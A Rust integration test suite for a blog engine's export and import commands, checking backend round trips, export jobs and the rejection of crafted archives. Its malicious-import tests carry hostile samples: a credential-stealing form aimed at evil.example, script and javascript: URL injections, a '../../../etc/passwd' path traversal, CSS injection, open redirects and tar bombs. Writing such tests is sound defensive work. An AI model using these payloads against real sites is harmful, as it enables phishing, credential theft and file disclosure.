//! `folio export` / `folio import`: a site survives SQLite → (SQLite or PostgreSQL) →
//! SQLite unchanged, and damaged, foreign or newer archives are refused with nothing
//! imported.

use crate::common;

use std::io::Read;
use std::path::{Path, PathBuf};
use std::time::{Duration, Instant};

use common::{Backend, Server, Site, get_page, logged_in, png, post_form, upload_api};

on_both_backends!(
    a_site_round_trips_through_the_other_backend_unchanged,
    bad_archives_and_full_databases_are_refused_and_change_nothing,
    an_admin_downloads_an_export_without_passwords,
    an_export_queued_on_one_node_downloads_from_another,
    an_export_whose_node_is_killed_runs_again_elsewhere,
    merging_adds_what_does_not_collide_and_reports_the_rest,
    imported_html_is_rendered_again_from_the_markdown,
    crafted_records_are_refused_and_nothing_is_imported,
    merging_never_brings_in_an_admin_or_a_known_password,
    oversized_entries_are_refused_before_they_are_read,
);

const PASSWORD: &str = "correct horse battery staple";

/// The entries of an archive: name → bytes.
fn entries(archive: &Path) -> Vec<(String, Vec<u8>)> {
    let file = std::fs::File::open(archive).unwrap();
    let mut tar = tar::Archive::new(flate2::read::GzDecoder::new(file));
    tar.entries()
        .unwrap()
        .map(|entry| {
            let mut entry = entry.unwrap();
            let name = entry.path().unwrap().to_string_lossy().into_owned();
            let mut bytes = Vec::new();
            entry.read_to_end(&mut bytes).unwrap();
            (name, bytes)
        })
        .collect()
}

fn write_entries(path: &Path, entries: &[(String, Vec<u8>)]) {
    let file = std::fs::File::create(path).unwrap();
    let mut tar = tar::Builder::new(flate2::write::GzEncoder::new(
        file,
        flate2::Compression::fast(),
    ));
    for (name, bytes) in entries {
        let mut header = tar::Header::new_gnu();
        header.set_size(bytes.len() as u64);
        header.set_mode(0o644);
        header.set_cksum();
        tar.append_data(&mut header, name, bytes.as_slice())
            .unwrap();
    }
    tar.into_inner().unwrap().finish().unwrap();
}

/// The archive with its content.json changed by `edit`, and the manifest's checksum and
/// counts made to match (as anyone crafting an archive can).
fn crafted(from: &Path, to: &Path, edit: impl FnOnce(&mut serde_json::Value)) {
    use sha2::Digest;
    let mut parts = entries(from);
    let mut content = content_of(from);
    edit(&mut content);
    let json = serde_json::to_vec(&content).unwrap();
    let sha = format!("{:x}", sha2::Sha256::digest(&json));
    for (name, bytes) in &mut parts {
        if name == "content.json" {
            *bytes = json.clone();
        } else if name == "manifest.json" {
            let mut manifest: serde_json::Value = serde_json::from_slice(bytes).unwrap();
            manifest["content_sha256"] = serde_json::json!(sha);
            for (table, count) in manifest["counts"].as_object_mut().unwrap() {
                *count = serde_json::json!(content[table.as_str()].as_array().unwrap().len());
            }
            *bytes = serde_json::to_vec(&manifest).unwrap();
        }
    }
    write_entries(to, &parts);
}

fn import_fails(site: &Site, args: &[&str]) -> String {
    let output = site.cli(args, None);
    let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
    assert!(
        !output.status.success(),
        "{args:?} was accepted: {output:?}"
    );
    stderr
}

/// The id of the account with this email.
/// Users in the site's database (made by `folio migrate` if the import never opened it).
fn user_count(site: &Site) -> i64 {
    use diesel::prelude::*;
    run(site, &["migrate"]);
    folio::db::schema::users::table
        .count()
        .get_result(&mut site.connect())
        .unwrap()
}

fn content_of(archive: &Path) -> serde_json::Value {
    let (_, bytes) = entries(archive)
        .into_iter()
        .find(|(name, _)| name == "content.json")
        .unwrap();
    serde_json::from_slice(&bytes).unwrap()
}

fn run(site: &Site, args: &[&str]) -> String {
    let output = site.cli(args, None);
    assert!(output.status.success(), "{args:?}: {output:?}");
    String::from_utf8_lossy(&output.stdout).into_owned()
}

fn export(site: &Site, name: &str) -> PathBuf {
    let path = site.data_dir().join(name);
    run(
        site,
        &[
            "export",
            "--output",
            path.to_str().unwrap(),
            "--include-credentials",
        ],
    );
    path
}

/// A site with a bit of everything, made through the web like a real one.
async fn populated_site() -> Site {
    let site = Site::new(&Backend::Sqlite);
    site.create_user("admin@example.org", "Ada Admin", "admin", PASSWORD);
    site.create_user("author@example.org", "Ann Author", "author", PASSWORD);
    let server = site.start().await;
    let (client, csrf) = logged_in(&server, "admin@example.org", PASSWORD).await;
    let (_, uploaded) =
        upload_api(&client, &server, &csrf, &[("harbour.png", &png(700, 300))]).await;
    let image = uploaded["files"][0]["id"].as_i64().unwrap().to_string();
    let url = uploaded["files"][0]["url"].as_str().unwrap().to_owned();
    let body = format!("Ships and *gulls*.\n\n![The harbour]({url})");
    let created = post_form(
        &client,
        &server,
        "/admin/posts",
        &csrf,
        &[
            ("title", "Harbour days"),
            ("slug", "harbour"),
            ("body", &body),
            ("tags", "Sea, Travel"),
            ("featured_media_id", &image),
            ("action", "publish"),
        ],
    )
    .await;
    assert_eq!(created.status(), 303);
    let edit = created.headers()["location"].to_str().unwrap().to_owned();
    let id = edit
        .trim_start_matches("/admin/posts/")
        .trim_end_matches("/edit");
    // A second revision and a changed slug (the old one redirects).
    let page = get_page(&client, &server.url(&edit), 200).await;
    let version = common::input_value(&page, "version").unwrap();
    let response = post_form(
        &client,
        &server,
        &format!("/admin/posts/{id}"),
        &csrf,
        &[
            ("version", &version),
            ("title", "Harbour days"),
            ("slug", "harbour-days"),
            ("body", &format!("{body}\n\nUpdated.")),
            ("tags", "Sea, Travel"),
            ("featured_media_id", &image),
            ("action", "save"),
        ],
    )
    .await;
    assert_eq!(response.status(), 303);
    let settings = [
        ("title", "Port notes"),
        ("description", "Notes from the port."),
        ("accent_colour", "#aa3300"),
        ("posts_per_page", "5"),
        ("time_zone", "Europe/Lisbon"),
        ("navigation", "About = /about"),
        ("footer", "Made by the sea."),
        ("custom_css", ""),
        ("feed_content", "excerpt"),
        ("logo_media_id", image.as_str()),
    ];
    let response = post_form(&client, &server, "/admin/settings", &csrf, &settings).await;
    assert_eq!(response.status(), 303);
    server.stop().await;
    site
}

async fn a_site_round_trips_through_the_other_backend_unchanged(backend: Backend) {
    let a = populated_site().await;
    let first = export(&a, "a.tar.gz");
    let original = content_of(&first);
    assert_eq!(original["posts"].as_array().unwrap().len(), 1);
    assert!(original["revisions"].as_array().unwrap().len() >= 2);
    assert_eq!(original["redirects"].as_array().unwrap().len(), 1);

    let b = Site::new(&backend);
    let out = run(&b, &["import", first.to_str().unwrap()]);
    assert!(out.contains("Imported 2 users, 1 post or page"), "{out}");
    let second = export(&b, "b.tar.gz");
    assert_eq!(
        content_of(&second),
        original,
        "the same content after one trip"
    );

    // The imported site works, and new rows get fresh ids (PostgreSQL's sequences moved on).
    let server = b.start().await;
    let (client, csrf) = logged_in(&server, "author@example.org", PASSWORD).await;
    let created = post_form(
        &client,
        &server,
        "/admin/posts",
        &csrf,
        &[
            ("title", "After the move"),
            ("body", "New."),
            ("action", "publish"),
        ],
    )
    .await;
    assert_eq!(created.status(), 303, "{}", created.text().await.unwrap());
    let anonymous = common::client();
    let page = get_page(&anonymous, &server.url("/harbour-days"), 200).await;
    assert!(
        page.contains("Port notes") && page.contains("srcset"),
        "{page}"
    );
    // The variants the page uses exist again (the archive holds originals only).
    let src = page
        .split("class=\"featured-image\" src=\"")
        .nth(1)
        .and_then(|rest| rest.split('"').next())
        .unwrap()
        .to_owned();
    assert!(src.contains("-700.png"), "{src}");
    let variant = anonymous.get(server.url(&src)).send().await.unwrap();
    assert_eq!(variant.status(), 200, "{src}");
    let found = get_page(&anonymous, &server.url("/search?q=gulls"), 200).await;
    assert!(
        found.contains("Harbour days"),
        "imported posts are searchable: {found}"
    );
    let old = anonymous.get(server.url("/harbour")).send().await.unwrap();
    assert_eq!(old.status(), 301);
    let image = content_of(&second)["media"][0]["storage_key"]
        .as_str()
        .unwrap()
        .to_owned();
    let media = anonymous
        .get(server.url(&format!("/media/{image}")))
        .send()
        .await
        .unwrap();
    assert_eq!(media.status(), 200);
    server.stop().await;

    // And back to SQLite, without the post made after the move.
    let c = Site::new(&Backend::Sqlite);
    run(&c, &["import", second.to_str().unwrap()]);
    let third = export(&c, "c.tar.gz");
    assert_eq!(
        content_of(&third),
        original,
        "the same content after the way back"
    );
}

async fn bad_archives_and_full_databases_are_refused_and_change_nothing(backend: Backend) {
    let a = populated_site().await;
    let good = export(&a, "good.tar.gz");
    let parts = entries(&good);
    let target = Site::new(&backend);
    let dir = target.data_dir().to_path_buf();
    let refused = |name: &str, expected: &str| {
        let output = target.cli(&["import", dir.join(name).to_str().unwrap()], None);
        let stderr = String::from_utf8_lossy(&output.stderr).into_owned();
        assert!(!output.status.success(), "{name} was accepted");
        assert!(stderr.contains(expected), "{name}: {stderr}");
    };

    std::fs::write(dir.join("empty.tar.gz"), b"").unwrap();
    refused("empty.tar.gz", "is not a Folio export");
    std::fs::write(dir.join("noise.tar.gz"), b"\x1f\x8b\x08\0garbage").unwrap();
    refused("noise.tar.gz", "is not a Folio export");

    let mut tampered = parts.clone();
    for (name, bytes) in &mut tampered {
        if name == "content.json" {
            *bytes = String::from_utf8(bytes.clone())
                .unwrap()
                .replace("Harbour days", "Hacked days")
                .into_bytes();
        }
    }
    write_entries(&dir.join("tampered.tar.gz"), &tampered);
    refused("tampered.tar.gz", "does not match its checksum");

    let mut bad_file = parts.clone();
    for (name, bytes) in &mut bad_file {
        if name.starts_with("media/") {
            bytes[0] ^= 0xff;
        }
    }
    write_entries(&dir.join("bad-file.tar.gz"), &bad_file);
    refused("bad-file.tar.gz", "does not match its name");

    let mut newer = parts.clone();
    for (name, bytes) in &mut newer {
        if name == "manifest.json" {
            let mut manifest: serde_json::Value = serde_json::from_slice(bytes).unwrap();
            manifest["version"] = serde_json::json!(99);
            *bytes = serde_json::to_vec(&manifest).unwrap();
        }
    }
    write_entries(&dir.join("newer.tar.gz"), &newer);
    refused("newer.tar.gz", "made by a newer Folio");

    let foreign = vec![("notes.txt".to_owned(), b"hello".to_vec())];
    write_entries(&dir.join("foreign.tar.gz"), &foreign);
    refused("foreign.tar.gz", "is not a Folio export");

    // Nothing of the above got in: the real archive still imports, once.
    std::fs::copy(&good, dir.join("good.tar.gz")).unwrap();
    run(
        &target,
        &["import", dir.join("good.tar.gz").to_str().unwrap()],
    );
    refused("good.tar.gz", "already has 2 users");
    refused("good.tar.gz", "--merge");

    // A record whose file went missing from the disk is exported, and reported.
    let key = content_of(&good)["media"][0]["storage_key"]
        .as_str()
        .unwrap()
        .to_owned();
    std::fs::remove_file(a.data_dir().join("media").join(&key)).unwrap();
    let partial = a.data_dir().join("partial.tar.gz");
    let out = run(&a, &["export", "--output", partial.to_str().unwrap()]);
    assert!(
        out.contains("1 media file was missing") && out.contains(&key),
        "{out}"
    );
    assert!(
        entries(&partial)
            .iter()
            .all(|(name, _)| !name.contains(&key))
    );

    // Existing files are never overwritten by an export without --force.
    let again = a.cli(&["export", "--output", good.to_str().unwrap()], None);
    assert!(!again.status.success());
    assert!(String::from_utf8_lossy(&again.stderr).contains("already exists"));
}

/// Queues an export through `node`'s settings form; returns the path of its page.
async fn start_dashboard_export(node: &Server, client: &reqwest::Client, csrf: &str) -> String {
    let response = post_form(client, node, "/admin/export", csrf, &[]).await;
    assert_eq!(response.status(), 303);
    let job = response.headers()["location"].to_str().unwrap().to_owned();
    assert!(job.starts_with("/admin/export/"), "{job}");
    job
}

/// Downloads the finished export `job` through `node` into `to`.
async fn download_export(node: &Server, client: &reqwest::Client, job: &str, to: &Path) {
    let response = client
        .get(node.url(&format!("{job}/download")))
        .send()
        .await
        .unwrap();
    assert_eq!(response.status(), 200);
    assert_eq!(response.headers()["content-type"], "application/gzip");
    let disposition = response.headers()["content-disposition"]
        .to_str()
        .unwrap()
        .to_owned();
    assert!(
        disposition.starts_with("attachment; filename=\"folio-export-")
            && disposition.ends_with(".tar.gz\""),
        "{disposition}"
    );
    std::fs::write(to, response.bytes().await.unwrap()).unwrap();
}

/// The files in the media directory's job folder.
fn job_files(site: &Site) -> Vec<String> {
    let dir = site.data_dir().join("media").join("jobs");
    let mut names: Vec<String> = std::fs::read_dir(dir).map_or_else(
        |_| Vec::new(),
        |entries| {
            entries
                .map(|e| e.unwrap().file_name().into_string().unwrap())
                .collect()
        },
    );
    names.sort();
    names
}

async fn an_admin_downloads_an_export_without_passwords(backend: Backend) {
    let a = populated_site().await;
    let server = a.start().await;
    let (client, csrf) = logged_in(&server, "admin@example.org", PASSWORD).await;
    let settings = get_page(&client, &server.url("/admin/settings"), 200).await;
    assert!(
        settings.contains("<form method=\"post\" action=\"/admin/export\">"),
        "a form on the settings page"
    );
    // Building the archive is heavy: a GET (a link, a prefetch, an <img>) doesn't start it,
    // it leads to the form.
    let get = client
        .get(server.url("/admin/export"))
        .send()
        .await
        .unwrap();
    assert_eq!(get.status(), 303);
    assert_eq!(get.headers()["location"], "/admin/settings");
    let without_token = client
        .post(server.url("/admin/export"))
        .send()
        .await
        .unwrap();
    assert_eq!(without_token.status(), 403);

    // The POST queues a job and leads to its page, which shows the download when done.
    let job = start_dashboard_export(&server, &client, &csrf).await;
    let page = common::settled_job_page(&server, &client, &job).await;
    assert!(page.contains(&format!("href=\"{job}/download\"")), "{page}");
    assert!(
        page.contains("2 users, 1 post or page with 2 revisions, 2 tags, 1 media file"),
        "{page}"
    );
    let archive = a.data_dir().join("downloaded.tar.gz");
    download_export(&server, &client, &job, &archive).await;
    let content = content_of(&archive);
    assert!(
        content["users"]
            .as_array()
            .unwrap()
            .iter()
            .all(|u| u["password_hash"].is_null()),
        "no password hashes in a download"
    );
    // The settings page leads back to it.
    let settings = get_page(&client, &server.url("/admin/settings"), 200).await;
    assert!(settings.contains(&format!("href=\"{job}\"")), "{settings}");
    // Only the finished archive is left in the job folder (no temp or partial file).
    let id = job.rsplit('/').next().unwrap();
    assert_eq!(job_files(&a), [format!("export-{id}.tar.gz")]);

    // A backup of the data directory leaves the export's archive out (a copy of the site).
    let backup = a.data_dir().join("backup.tar.gz");
    run(&a, &["backup", "--output", backup.to_str().unwrap()]);
    let backed_up = entries(&backup);
    assert!(backed_up.iter().any(|(name, _)| name == "folio.db"));
    assert!(
        backed_up.iter().all(|(name, _)| !name.contains("export-")),
        "{:?}",
        backed_up.iter().map(|(name, _)| name).collect::<Vec<_>>()
    );

    // Others may neither start an export nor see or download one.
    let (author, author_csrf) = logged_in(&server, "author@example.org", PASSWORD).await;
    let refused = post_form(&author, &server, "/admin/export", &author_csrf, &[]).await;
    assert_eq!(refused.status(), 403);
    for path in [job.clone(), format!("{job}/download")] {
        let response = author.get(server.url(&path)).send().await.unwrap();
        assert_eq!(response.status(), 403, "{path}");
    }

    let b = Site::new(&backend);
    let out = run(&b, &["import", archive.to_str().unwrap()]);
    assert!(out.contains("Imported 2 users"), "{out}");
}

async fn an_export_queued_on_one_node_downloads_from_another(backend: Backend) {
    let site = Site::new(&backend);
    site.create_user("admin@example.org", "Ada Admin", "admin", PASSWORD);
    let first = site.start().await;
    let second = site.start().await;
    // The session cookie works on both nodes.
    let (client, csrf) = logged_in(&first, "admin@example.org", PASSWORD).await;

    let job = start_dashboard_export(&first, &client, &csrf).await;
    let page = common::settled_job_page(&second, &client, &job).await;
    assert!(page.contains("Download"), "{page}");
    let archive = site.data_dir().join("from-second.tar.gz");
    download_export(&second, &client, &job, &archive).await;
    let manifest: serde_json::Value = serde_json::from_slice(
        &entries(&archive)
            .into_iter()
            .find(|(name, _)| name == "manifest.json")
            .unwrap()
            .1,
    )
    .unwrap();
    assert_eq!(manifest["format"], "folio-export");
    assert_eq!(manifest["includes_credentials"], false);
    assert_eq!(
        content_of(&archive)["users"][0]["email"],
        "admin@example.org"
    );

    // A newer export replaces the older one's file: its download is gone (410), its page
    // says so; only the newest archive is on disk.
    let newer = start_dashboard_export(&second, &client, &csrf).await;
    assert_ne!(newer, job);
    let page = common::settled_job_page(&first, &client, &newer).await;
    assert!(page.contains("Download"), "{page}");
    assert!(page.contains("Recent exports"), "{page}");
    let gone = client
        .get(first.url(&format!("{job}/download")))
        .send()
        .await
        .unwrap();
    assert_eq!(gone.status(), 410);
    assert!(
        gone.text().await.unwrap().contains("no longer kept"),
        "a page that says why"
    );
    let page = get_page(&client, &second.url(&job), 200).await;
    assert!(page.contains("no longer kept"), "{page}");
    let id = newer.rsplit('/').next().unwrap();
    assert_eq!(job_files(&site), [format!("export-{id}.tar.gz")]);
    download_export(&first, &client, &newer, &archive).await;

    // No such export: 404, whatever the id looks like.
    for path in [
        "/admin/export/999999",
        "/admin/export/999999/download",
        "/admin/export/abc/download",
    ] {
        let response = client.get(second.url(path)).send().await.unwrap();
        assert_eq!(response.status(), 404, "{path}");
    }
}

async fn an_export_whose_node_is_killed_runs_again_elsewhere(backend: Backend) {
    use diesel::prelude::*;
    use folio::db::schema::jobs;
    let site = Site::new(&backend);
    site.create_user("admin@example.org", "Ada Admin", "admin", PASSWORD);
    // Tests only: a claimed job waits before its work starts, heartbeats going on.
    let doomed = site
        .start_with(&[
            ("FOLIO_TEST_JOB_DELAY_MS", "600000"),
            ("FOLIO_JOB_LEASE", "2"),
        ])
        .await;
    let (client, csrf) = logged_in(&doomed, "admin@example.org", PASSWORD).await;
    let job = start_dashboard_export(&doomed, &client, &csrf).await;
    let id: i32 = job.rsplit('/').next().unwrap().parse().unwrap();
    let state = || -> (String, i32) {
        jobs::table
            .find(id)
            .select((jobs::state, jobs::attempts))
            .first(&mut site.connect())
            .unwrap()
    };
    let started = Instant::now();
    while state().0 != "running" {
        assert!(started.elapsed() < Duration::from_secs(30), "{:?}", state());
        tokio::time::sleep(Duration::from_millis(50)).await;
    }
    // While it runs there is nothing to download: the download leads to its page.
    let early = client
        .get(doomed.url(&format!("{job}/download")))
        .send()
        .await
        .unwrap();
    assert_eq!(early.status(), 303);
    assert_eq!(early.headers()["location"], job.as_str());
    // kill -9: the export is simply made again by the next node once the lease lapses.
    drop(doomed);
    let other = site.start_with(&[("FOLIO_JOB_LEASE", "2")]).await;
    let page = common::settled_job_page(&other, &client, &job).await;
    assert!(page.contains("Download"), "{page}");
    assert_eq!(state(), ("done".to_owned(), 2));
    download_export(&other, &client, &job, &site.data_dir().join("again.tar.gz")).await;
    assert_eq!(job_files(&site), [format!("export-{id}.tar.gz")]);
}

async fn merging_adds_what_does_not_collide_and_reports_the_rest(backend: Backend) {
    let a = populated_site().await;
    let archive = export(&a, "a.tar.gz");

    let b = Site::new(&backend);
    b.create_user(
        "admin@example.org",
        "Local Admin",
        "admin",
        "another long password",
    );
    let server = b.start().await;
    let (client, csrf) = logged_in(&server, "admin@example.org", "another long password").await;
    let local = post_form(
        &client,
        &server,
        "/admin/posts",
        &csrf,
        &[
            ("title", "Local news"),
            ("body", "Ours."),
            ("action", "publish"),
        ],
    )
    .await;
    assert_eq!(local.status(), 303);
    server.stop().await;

    let out = run(&b, &["import", "--merge", archive.to_str().unwrap()]);
    assert!(out.contains("settings: this site's own are kept"), "{out}");
    let again = run(&b, &["import", "--merge", archive.to_str().unwrap()]);
    assert!(
        again.contains("the slug “harbour-days” is taken here by “Harbour days”"),
        "{again}"
    );

    let server = b.start().await;
    let anonymous = common::client();
    let home = get_page(&anonymous, &server.url("/"), 200).await;
    assert!(
        home.contains("Harbour days") && home.contains("Local news"),
        "{home}"
    );
    assert!(!home.contains("Port notes"), "the site's own settings stay");
    let harbour = get_page(&anonymous, &server.url("/harbour-days"), 200).await;
    assert!(harbour.contains("Ships and"), "{harbour}");
    let old = anonymous.get(server.url("/harbour")).send().await.unwrap();
    assert_eq!(
        old.status(),
        301,
        "the redirect came along, pointing at the new id"
    );
    // The local admin kept their password; the archive's author was added, disabled and
    // without the archive's password hash.
    logged_in(&server, "admin@example.org", "another long password").await;
    let author = common::log_in(&common::client(), &server, "author@example.org", PASSWORD).await;
    assert_ne!(author.status(), 303, "a merged account cannot log in");
    assert!(
        out.contains("admin@example.org: already has an account here, left as it is")
            && out.contains("author@example.org: author, disabled, without a password"),
        "{out}"
    );
    let posts: i64 = {
        use diesel::prelude::*;
        folio::db::schema::posts::table
            .count()
            .get_result(&mut b.connect())
            .unwrap()
    };
    assert_eq!(posts, 2, "merging twice added the post once");
}

async fn imported_html_is_rendered_again_from_the_markdown(backend: Backend) {
    let a = populated_site().await;
    let good = export(&a, "good.tar.gz");
    let b = Site::new(&backend);
    let archive = b.data_dir().join("crafted.tar.gz");
    crafted(&good, &archive, |content| {
        let post = &mut content["posts"][0];
        post["body_html"] = serde_json::json!(
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">\
             <form action=\"https://evil.example/steal\"><input name=\"password\"></form>"
        );
        post["body_markdown"] = serde_json::json!(
            "Kittiwakes nest here.\n\n<form action=\"https://evil.example/steal\"><input name=\"password\"></form>\n\n<script>alert(1)</script>"
        );
        post["search_text"] = serde_json::json!("nothing to see");
    });
    run(&b, &["import", archive.to_str().unwrap()]);
    let server = b.start().await;
    let anonymous = common::client();
    let page = get_page(&anonymous, &server.url("/harbour-days"), 200).await;
    assert!(page.contains("Kittiwakes nest here."), "{page}");
    for foreign in [
        "http-equiv",
        "<form action=\"https://evil",
        "evil.example",
        "<script>alert",
    ] {
        assert!(!page.contains(foreign), "{foreign} in {page}");
    }
    let found = get_page(&anonymous, &server.url("/search?q=kittiwakes"), 200).await;
    assert!(
        found.contains("Harbour days"),
        "search text derived again: {found}"
    );
    server.stop().await;
}

async fn crafted_records_are_refused_and_nothing_is_imported(backend: Backend) {
    let a = populated_site().await;
    let good = export(&a, "good.tar.gz");
    let target = Site::new(&backend);
    let dir = target.data_dir().to_path_buf();
    type Edit = fn(&mut serde_json::Value);
    let cases: &[(&str, Edit, &str)] = &[
        (
            "slug",
            |c| c["posts"][0]["slug"] = "/evil.example".into(),
            "slug",
        ),
        (
            "reserved",
            |c| c["posts"][0]["slug"] = "admin".into(),
            "slug",
        ),
        (
            "redirect",
            |c| c["redirects"][0]["from_path"] = "//evil.example".into(),
            "redirect",
        ),
        (
            "redirect-to",
            |c| c["redirects"][0]["to_path"] = "https://evil.example/".into(),
            "redirect",
        ),
        ("role", |c| c["users"][1]["role"] = "owner".into(), "role"),
        (
            "email",
            |c| c["users"][1]["email"] = "not an email".into(),
            "email",
        ),
        (
            "hash",
            |c| c["users"][1]["password_hash"] = "plain".into(),
            "password",
        ),
        (
            "status",
            |c| c["posts"][0]["status"] = "live".into(),
            "status",
        ),
        ("kind", |c| c["posts"][0]["kind"] = "script".into(), "kind"),
        (
            "key",
            |c| c["media"][0]["storage_key"] = "../../../etc/passwd".into(),
            "storage key",
        ),
        ("tag", |c| c["tags"][0]["slug"] = "a/../b".into(), "slug"),
        (
            "media-size",
            |c| c["media"][0]["size_bytes"] = 1.into(),
            "bytes",
        ),
        (
            "canonical",
            |c| c["posts"][0]["canonical_url"] = "javascript:alert(1)".into(),
            "canonical",
        ),
        (
            "accent",
            |c| {
                for s in c["settings"].as_array_mut().unwrap() {
                    if s["key"] == "accent_colour" {
                        s["value"] = "red;}body{display:none".into();
                    }
                }
            },
            "accent_colour",
        ),
        (
            "navigation",
            |c| {
                for s in c["settings"].as_array_mut().unwrap() {
                    if s["key"] == "navigation" {
                        s["value"] = "Home = //evil.example".into();
                    }
                }
            },
            "navigation",
        ),
        (
            "unknown-setting",
            |c| {
                c["settings"]
                    .as_array_mut()
                    .unwrap()
                    .push(serde_json::json!({
                        "key": "session_key", "value": "x", "updated_at": "2024-01-01T00:00:00"
                    }));
            },
            "session_key",
        ),
    ];
    for (name, edit, expected) in cases {
        let path = dir.join(format!("{name}.tar.gz"));
        crafted(&good, &path, *edit);
        let stderr = import_fails(&target, &["import", path.to_str().unwrap()]);
        assert!(
            stderr.contains(expected) && stderr.contains("nothing was imported"),
            "{name}: {stderr}"
        );
        assert_eq!(user_count(&target), 0, "{name} changed nothing");
    }
    assert!(
        common::files_under(&dir.join("media")).is_empty(),
        "no media file was placed"
    );
}

async fn merging_never_brings_in_an_admin_or_a_known_password(backend: Backend) {
    let a = populated_site().await;
    let good = export(&a, "good.tar.gz");
    let b = Site::new(&backend);
    b.create_user(
        "owner@example.org",
        "Owner",
        "admin",
        "another long password",
    );
    // A deleted account's id is never handed to a merged one (its old session cookies
    // must not come back to life): PostgreSQL's sequences and SQLite's AUTOINCREMENT.
    b.create_user(
        "gone@example.org",
        "Gone",
        "editor",
        "another long password",
    );
    let gone = b.user_id("gone@example.org");
    {
        use diesel::prelude::*;
        diesel::delete(folio::db::schema::users::table.find(gone))
            .execute(&mut b.connect())
            .unwrap();
    }
    let archive = b.data_dir().join("intruder.tar.gz");
    crafted(&good, &archive, |content| {
        content["users"][0]["email"] = "intruder@example.org".into();
        content["users"][0]["slug"] = "intruder".into();
    });

    let out = run(&b, &["import", "--merge", archive.to_str().unwrap()]);
    assert!(
        out.contains("intruder@example.org: admin in the archive, imported as contributor"),
        "{out}"
    );
    assert!(out.contains("disabled, without a password"), "{out}");
    let server = b.start().await;
    for email in ["intruder@example.org", "author@example.org"] {
        let response = common::log_in(&common::client(), &server, email, PASSWORD).await;
        assert_ne!(response.status(), 303, "{email} cannot log in");
    }
    server.stop().await;
    let roles: Vec<(String, String, String, Option<String>)> = {
        use diesel::prelude::*;
        use folio::db::schema::users;
        users::table
            .order(users::id)
            .select((
                users::email,
                users::role,
                users::status,
                users::password_hash,
            ))
            .load(&mut b.connect())
            .unwrap()
    };
    for email in ["intruder@example.org", "author@example.org"] {
        assert!(
            b.user_id(email) > gone,
            "{email} got an id handed out before"
        );
    }
    let intruder = roles
        .iter()
        .find(|u| u.0 == "intruder@example.org")
        .unwrap();
    assert_eq!(
        (intruder.1.as_str(), intruder.2.as_str()),
        ("contributor", "disabled")
    );
    assert!(
        roles
            .iter()
            .filter(|u| u.0 != "owner@example.org")
            .all(|u| u.3.is_none())
    );

    // Asked for explicitly, the admin comes in as an admin (still without a password).
    let c = Site::new(&backend);
    c.create_user(
        "owner@example.org",
        "Owner",
        "admin",
        "another long password",
    );
    let out = run(
        &c,
        &[
            "import",
            "--merge",
            "--allow-admins",
            archive.to_str().unwrap(),
        ],
    );
    assert!(
        out.contains("intruder@example.org: admin, disabled, without a password"),
        "{out}"
    );

    // A full import into an empty site says which accounts it made.
    let d = Site::new(&backend);
    let out = run(&d, &["import", good.to_str().unwrap()]);
    assert!(
        out.contains("admin@example.org: admin, active, with the password from the archive"),
        "{out}"
    );
}

async fn oversized_entries_are_refused_before_they_are_read(backend: Backend) {
    let target = Site::new(&backend);
    let dir = target.data_dir().to_path_buf();
    // A tar header that declares a huge entry, followed by a few MB of zeros: read to the
    // end, it would never fit in memory; it must be refused from its header alone.
    let bomb = |name: &str, kind: tar::EntryType, declared: u64| -> PathBuf {
        let path = dir.join(format!("bomb-{}.tar.gz", name.replace('/', "-")));
        let file = std::fs::File::create(&path).unwrap();
        let mut gzip = flate2::write::GzEncoder::new(file, flate2::Compression::fast());
        let manifest = serde_json::to_vec(&serde_json::json!({
            "format": "folio-export", "version": 1, "folio": "0.1.0",
            "created_at": "2024-01-01T00:00:00Z", "includes_credentials": false,
            "content_sha256": "00", "counts": {"users": 0, "posts": 0, "revisions": 0,
            "tags": 0, "media": 0, "redirects": 0, "settings": 0}
        }))
        .unwrap();
        let mut header = tar::Header::new_gnu();
        header.set_size(manifest.len() as u64);
        header.set_mode(0o644);
        header.set_path("manifest.json").unwrap();
        header.set_cksum();
        use std::io::Write;
        gzip.write_all(header.as_bytes()).unwrap();
        gzip.write_all(&manifest).unwrap();
        gzip.write_all(&vec![0u8; 512 - manifest.len() % 512])
            .unwrap();
        let mut header = tar::Header::new_gnu();
        header.set_entry_type(kind);
        header.set_size(declared);
        header.set_mode(0o644);
        header.set_path(name).unwrap();
        header.set_cksum();
        gzip.write_all(header.as_bytes()).unwrap();
        let zeros = vec![0u8; 1024 * 1024];
        for _ in 0..8 {
            gzip.write_all(&zeros).unwrap();
        }
        gzip.finish().unwrap();
        path
    };
    let gib = 1024 * 1024 * 1024;
    let cases = [
        (
            bomb("content.json", tar::EntryType::Regular, 4 * gib),
            "content.json is",
        ),
        (
            bomb("././@LongLink", tar::EntryType::GNULongName, gib),
            "not a plain file",
        ),
        (
            bomb("content.json", tar::EntryType::Regular, 40 * 1024 * 1024),
            "more than the 16 MB",
        ),
    ];
    for (i, (path, expected)) in cases.iter().enumerate() {
        let started = std::time::Instant::now();
        let mut args = vec!["import", path.to_str().unwrap()];
        if i == 2 {
            args.extend(["--max-content-mb", "16"]);
        }
        let stderr = import_fails(&target, &args);
        assert!(stderr.contains(expected), "{path:?}: {stderr}");
        assert!(stderr.contains("nothing was imported"), "{stderr}");
        assert!(
            started.elapsed() < std::time::Duration::from_secs(5),
            "refused fast"
        );
    }
    assert_eq!(user_count(&target), 0);
}
